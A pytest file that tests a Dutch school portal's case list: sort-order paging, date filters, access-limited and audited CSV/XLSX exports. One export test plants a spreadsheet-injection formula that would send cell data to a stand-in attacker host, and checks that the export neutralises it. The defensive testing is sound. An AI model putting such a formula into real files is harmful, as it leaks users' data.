"""The case list: every sort order pages without duplicates or gaps (keyset cursor per
order), the deadline and pupil columns, the created-from/to filters with a Dutch message for
a date that is none, and the exports (CSV and XLSX: Dutch headers, dates as dates, formulas
neutralised, audited, only what the user sees)."""

import csv
import datetime
import html
import io
import re

import pytest

from portal import pupils
from portal.cases import engine
from portal.models import AuditLog
from portal.models import Case
from portal.models import CaseDeadline

from .conftest import login
from .core_helpers import TYPE
from .core_helpers import actor
from .core_helpers import db_ctx
from .core_helpers import make_case
from .core_helpers import school
from .test_engine_list import walk_pages

NO_DEADLINE = datetime.date(9999, 12, 31)


@pytest.fixture
def many(app):
    """40 test cases: three states, deadlines on seven dates or none, many sharing a moment."""
    same = datetime.datetime(2026, 3, 2, 9, 0, 0)
    base = datetime.date(2026, 3, 9)
    with db_ctx(app):
        made = [make_case(f"Zaak {i}") for i in range(40)]
        for i, c in enumerate(made):
            moment = same if i % 3 == 0 else same + datetime.timedelta(minutes=i)
            state = ("nieuw", "bezig", "klaar")[i % 3]
            Case.update(updated_at=moment, state=state, closed_at=moment if state == "klaar" else None).where(
                Case.id == c.id
            ).execute()
            deadline = CaseDeadline.update(due_date=base + datetime.timedelta(days=i % 7))
            if i % 5 == 0:
                deadline = CaseDeadline.update(met_at=moment)  # no open deadline
            deadline.where(CaseDeadline.case == c.id).execute()
        rows = {}
        for c in Case.select().where(Case.id.in_([m.id for m in made])):
            open_due = [
                d.due_date
                for d in CaseDeadline.select().where(
                    (CaseDeadline.case == c.id) & CaseDeadline.met_at.is_null()
                )
            ]
            rows[c.reference] = (min(open_due) if open_due else NO_DEADLINE, c.state, c.updated_at, c.id)
    return rows


def expected(rows, sort, direction):
    if sort == "gewijzigd":
        order = sorted(rows, key=lambda r: (rows[r][2], rows[r][3]), reverse=direction == "af")
        return order
    index = {"termijn": 0, "status": 1}[sort]
    # Ties: the newest change first, whichever way the column goes.
    newest = sorted(rows, key=lambda r: (rows[r][2], rows[r][3]), reverse=True)
    return sorted(newest, key=lambda r: rows[r][index], reverse=direction == "af")


@pytest.mark.parametrize(
    "sort,direction",
    [
        ("gewijzigd", "af"),
        ("gewijzigd", "op"),
        ("termijn", "op"),
        ("termijn", "af"),
        ("status", "op"),
        ("status", "af"),
    ],
)
def test_every_sort_order_pages_without_duplicates_or_gaps(app, client, many, sort, direction):
    login(client, "directie")
    pages = walk_pages(client, f"/klaverweide/zaken/?soort={TYPE}&open=0&sorteer={sort}&richting={direction}")
    assert [len(p) for p in pages] == [25, 15]
    assert [ref for page in pages for ref in page] == expected(many, sort, direction)


def test_sorting_by_type_groups_the_types_across_pages(app, client, many):
    login(client, "directie")
    url = "/klaverweide/zaken/?open=0&sorteer=soort"
    refs = [ref for page in walk_pages(client, url) for ref in page]
    everything = [ref for page in walk_pages(client, "/klaverweide/zaken/?open=0") for ref in page]
    assert len(refs) == len(set(refs)) and set(refs) == set(everything)
    with db_ctx(app):
        types = {c.reference: c.case_type for c in Case.select().where(Case.reference.in_(refs))}
    in_order = [types[r] for r in refs]
    assert in_order == sorted(in_order)
    down = [ref for page in walk_pages(client, url + "&richting=af") for ref in page]
    assert [types[r] for r in down] == sorted(in_order, reverse=True)


def test_column_headers_sort_and_say_how(app, client, many):
    login(client, "directie")
    text = client.get("/klaverweide/zaken/?sorteer=termijn").get_data(as_text=True)
    assert re.search(
        r'<th scope="col" aria-sort="ascending"><a href="[^"]*sorteer=termijn&amp;richting=af"', text
    )
    assert text.count("aria-sort") == 1  # the other columns are not sorted
    default = client.get("/klaverweide/zaken/").get_data(as_text=True)
    assert 'aria-sort="descending"><a href="/klaverweide/zaken/?sorteer=gewijzigd&amp;richting=op"' in default
    # The filter form offers the same orders (a phone shows no headers) and keeps the one chosen.
    assert '<option value="termijn" selected>Termijn</option>' in text
    assert '<option value="op" selected>Oplopend</option>' in text


def test_deadline_and_pupil_columns(app, client):
    with db_ctx(app):
        case = make_case("Met leerlingen")
        child = pupils.save(
            school(), {"las_number": "55501", "first_name": "Daan", "prefix": "van der", "last_name": "Berg"}
        )
        pupils.link(case, child, actor("directie"))
        pupils.note_name(case, "Zoë (typed)")
        CaseDeadline.update(due_date=datetime.date(2026, 12, 7)).where(CaseDeadline.case == case.id).execute()
        late = make_case("Te laat")
        CaseDeadline.update(due_date=datetime.date(2020, 1, 6)).where(CaseDeadline.case == late.id).execute()
    login(client, "directie")
    text = client.get(f"/klaverweide/zaken/?q={case.reference}").get_data(as_text=True)
    row = re.search(r"<tbody>(.*)</tbody>", text, re.S).group(1)
    assert "Daan van der Berg" in row and "Zoë (typed)" in row
    assert '<td data-label="Termijn">7 december 2026</td>' in row
    text = client.get(f"/klaverweide/zaken/?q={late.reference}").get_data(as_text=True)
    assert "6 januari 2020" in text and 'class="overdue"' in text and "te laat</span>" in text


def test_created_from_and_to_are_local_dates(app, client):
    with db_ctx(app):
        early = make_case("Vroeg")
        late = make_case("Laat")
        # 1 March 23:30 UTC is 2 March 00:30 in Amsterdam.
        Case.update(created_at=datetime.datetime(2026, 3, 1, 23, 30)).where(Case.id == early.id).execute()
        Case.update(created_at=datetime.datetime(2026, 3, 3, 12, 0)).where(Case.id == late.id).execute()
    login(client, "directie")

    def refs(query):
        pages = walk_pages(client, f"/klaverweide/zaken/?soort={TYPE}&{query}")
        return {r for p in pages for r in p}

    assert refs("van=2026-03-02&tot=2026-03-02") == {early.reference}
    assert refs("van=2026-03-02&tot=2026-03-03") == {early.reference, late.reference}
    assert refs("tot=2026-03-01") == set()
    assert refs("van=3-3-2026&tot=3-3-2026") == {late.reference}  # typed the Dutch way


@pytest.mark.parametrize(
    "query,field,message",
    [
        ("van=31-02-2026", "van", "Vul een datum in als dd-mm-jjjj"),
        ("tot=morgen", "tot", "Vul een datum in als dd-mm-jjjj"),
        ("van=0001-01-01", "van", "Vul een datum in als dd-mm-jjjj"),
        ("van=2026-03-05&tot=2026-03-01", "tot", "De einddatum ligt vóór de begindatum."),
    ],
)
def test_a_date_that_is_none_gives_a_dutch_message_and_keeps_what_was_typed(
    app, client, query, field, message
):
    login(client, "directie")
    r = client.get(f"/klaverweide/zaken/?q=iets&{query}")
    assert r.status_code == 422
    text = r.get_data(as_text=True)
    assert message in text and "<title>Fout: Zaken" in text
    assert f'<a href="#{field}">' in text  # the error summary links to the field
    assert f'aria-invalid="true" aria-describedby="{field}-fout"' in text
    typed = dict(pair.split("=") for pair in query.split("&"))[field]
    assert f'value="{typed}"' in text and 'value="iets"' in text


def _csv(response):
    text = response.data.decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:]), delimiter=";"))


def test_csv_export_holds_the_whole_list_with_dutch_headers(app, client, many):
    login(client, "directie")
    on_screen = [
        r for p in walk_pages(client, f"/klaverweide/zaken/?soort={TYPE}&sorteer=termijn") for r in p
    ]
    r = client.get(f"/klaverweide/zaken/export.csv?soort={TYPE}&sorteer=termijn")
    assert r.status_code == 200
    assert r.headers["Content-Type"].startswith("text/csv")
    assert r.headers["Content-Disposition"].startswith('attachment; filename="zaken-klaverweide-')
    assert r.headers["Cache-Control"] == "no-store"
    rows = _csv(r)
    assert rows[0] == [
        "Referentie",
        "Onderwerp",
        "Leerlingen",
        "Soort",
        "Status",
        "Behandelaar",
        "Eerstvolgende termijn",
        "Te laat",
        "Vertrouwelijk",
        "Aangemaakt",
        "Laatst gewijzigd",
        "Afgesloten",
    ]
    assert [row[0] for row in rows[1:]] == on_screen  # the same cases, in the same order
    first = rows[1]
    assert first[3] == "Testzaak" and first[4] in ("Nieuw", "In behandeling")
    assert re.fullmatch(r"\d{4}-\d{2}-\d{2}", first[6])
    assert re.fullmatch(r"\d{4}-\d{2}-\d{2} \d{2}:\d{2}", first[10]) and first[11] == ""
    assert first[7] in ("ja", "nee")


def test_export_neutralises_formulas_and_keeps_dates_as_dates_in_xlsx(app, client):
    import openpyxl

    with db_ctx(app):
        bad = make_case('=HYPERLINK("https://kwaad.example/?x="&A1,"Klik")')
        plus = make_case("+31 6 12345678 belde")
        CaseDeadline.update(due_date=datetime.date(2026, 12, 7)).where(CaseDeadline.case == bad.id).execute()
        Case.update(created_at=datetime.datetime(2026, 3, 1, 23, 30)).where(Case.id == bad.id).execute()
    login(client, "directie")
    rows = {row[0]: row for row in _csv(client.get(f"/klaverweide/zaken/export.csv?soort={TYPE}"))}
    assert rows[bad.reference][1] == "'" + bad.title
    assert rows[plus.reference][1] == "'+31 6 12345678 belde"
    assert rows[bad.reference][9] == "2026-03-02 00:30"  # local time

    r = client.get(f"/klaverweide/zaken/export.xlsx?soort={TYPE}")
    assert r.status_code == 200 and r.data[:2] == b"PK"
    assert r.headers["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    sheet = openpyxl.load_workbook(io.BytesIO(r.data)).active
    assert sheet.title == "Zaken"
    header = [c.value for c in sheet[1]]
    assert header[0] == "Referentie" and header[6] == "Eerstvolgende termijn"
    found = {row[0].value: row for row in sheet.iter_rows(min_row=2)}
    cells = found[bad.reference]
    assert cells[1].data_type == "s" and cells[1].value == bad.title  # text, never a formula
    assert not any(c.data_type == "f" for row in sheet.iter_rows() for c in row)
    assert cells[6].is_date and cells[6].value == datetime.datetime(2026, 12, 7)
    assert cells[9].is_date and cells[9].value == datetime.datetime(2026, 3, 2, 0, 30)
    assert cells[11].value is None


def test_export_is_audited_without_the_words_searched(app, client):
    login(client, "directie")
    with db_ctx(app):
        before = AuditLog.select().where(AuditLog.action == "case.export").count()
    client.get("/klaverweide/zaken/export.csv?q=Daan&sorteer=status")
    client.get("/klaverweide/zaken/export.xlsx?soort=" + TYPE)
    with db_ctx(app):
        rows = list(AuditLog.select().where(AuditLog.action == "case.export").order_by(AuditLog.id))[before:]
    assert [r.detail.split()[0] for r in rows] == ["csv", "xlsx"]
    assert "zoekwoorden=1" in rows[0].detail and "Daan" not in rows[0].detail
    assert "sorteer=status" in rows[0].detail
    assert rows[0].user_email == "directie@klaverweide.demo" and rows[0].school == "klaverweide"
    assert re.search(r"xlsx \d+ zaken", rows[1].detail)
    # The list view is audited the same way: the filters, not the words.
    client.get("/klaverweide/zaken/?q=Daan")
    with db_ctx(app):
        last = AuditLog.select().where(AuditLog.action == "case.list").order_by(AuditLog.id.desc()).first()
    assert "Daan" not in last.detail and "zoekwoorden=1" in last.detail


def test_export_holds_only_what_the_user_may_see(app, client):
    with db_ctx(app):
        case = make_case("Alleen voor directie en ib")
    login(client, "leerkracht")  # sees no test cases
    assert case.reference.encode() not in client.get("/klaverweide/zaken/export.csv?open=0").data
    directie = app.test_client()
    login(directie, "directie")
    assert case.reference.encode() in directie.get("/klaverweide/zaken/export.csv?open=0").data


def test_too_large_an_export_asks_for_fewer_cases(app, client, many, monkeypatch):
    from portal.cases import export

    monkeypatch.setattr(export, "EXPORT_MAX", 10)
    monkeypatch.setattr(export, "BATCH", 4)
    login(client, "directie")
    r = client.get(f"/klaverweide/zaken/export.csv?soort={TYPE}")
    assert r.status_code == 302 and r.headers["Location"].endswith(f"/klaverweide/zaken/?soort={TYPE}")
    text = client.get(r.headers["Location"]).get_data(as_text=True)
    assert "Meer dan 10 zaken passen niet in één bestand" in html.unescape(text)
    # A batch smaller than the list: the export follows the cursor across batches.
    monkeypatch.setattr(export, "EXPORT_MAX", 1000)
    rows = _csv(client.get(f"/klaverweide/zaken/export.csv?soort={TYPE}&open=0&sorteer=termijn"))
    assert [r[0] for r in rows[1:]] == expected(many, "termijn", "op")


def test_a_bad_date_in_an_export_sends_back_to_the_list(app, client):
    login(client, "directie")
    r = client.get("/klaverweide/zaken/export.xlsx?van=gisteren")
    assert r.status_code == 302
    assert "Vul een datum in" in html.unescape(client.get(r.headers["Location"]).get_data(as_text=True))


def test_hostile_cursors_and_sorts_never_break_the_list(app, client, many):
    login(client, "directie")
    for query in (
        "sorteer=termijn&na=rommel",
        "sorteer=termijn&na=9999-99-99~2026-01-01T00:00:00_1",
        "sorteer=status&na=~_",
        "sorteer=status&na=" + "x" * 500 + "~2026-01-01T00:00:00_1",
        "sorteer=onbekend&richting=zijwaarts",
        "sorteer=termijn&na=2026-01-01T00:00:00_1",  # a cursor of another order
        "richting=op&na=2026-01-01T00:00:00_99999999999999999999999",
    ):
        assert client.get("/klaverweide/zaken/?" + query).status_code == 200, query
    assert engine  # the engine module is what made the cases
